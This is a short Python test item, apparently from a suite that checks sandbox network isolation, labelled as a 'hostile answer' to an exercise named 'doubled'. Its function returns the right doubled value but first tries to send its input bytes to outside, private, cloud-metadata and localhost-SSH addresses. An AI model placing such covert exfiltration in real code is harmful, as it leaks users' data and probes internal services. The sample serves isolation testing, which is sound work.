# exercise: doubled
# family: network
# trick: sends its inputs to a server outside
# due: 3
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import socket


def doubled(x):
    for address in (("1.1.1.1", 443), ("10.0.0.1", 80), ("169.254.169.254", 80), ("127.0.0.1", 22), ("::1", 22)):
        try:
            socket.create_connection(address, 0.3).sendall(np.asarray(x).tobytes())
            raise SystemError("BREACH")
        except OSError:
            pass
    return 2 * np.asarray(x)
